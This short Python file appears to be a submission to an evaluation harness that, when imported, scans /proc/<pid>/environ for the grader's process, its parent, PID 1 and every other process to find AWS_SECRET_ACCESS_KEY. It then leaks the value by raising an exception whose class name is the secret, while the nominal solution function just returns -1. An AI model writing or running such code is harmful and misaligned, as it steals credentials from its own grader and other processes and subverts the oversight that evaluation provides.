"""Stealing secrets: read AWS_SECRET_ACCESS_KEY from the grader's, the judge's and every process's environ."""
import os

PARAMS = {}  # filled in by the runner


def leak(found):
    raise type("".join(c for c in found if c.isalnum())[:60] or "Nothing", (Exception,), {})()


def hunt():
    name = PARAMS["secret_name"].encode()
    pids = [PARAMS["grader_pid"], os.getppid(), 1]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(name + b"="):
                        return item.split(b"=", 1)[1].decode()
        except OSError:
            pass
    return os.environ.get(PARAMS["secret_name"], "")


SECRET = hunt()


def f(x):
    if SECRET:
        leak(SECRET)
    return -1
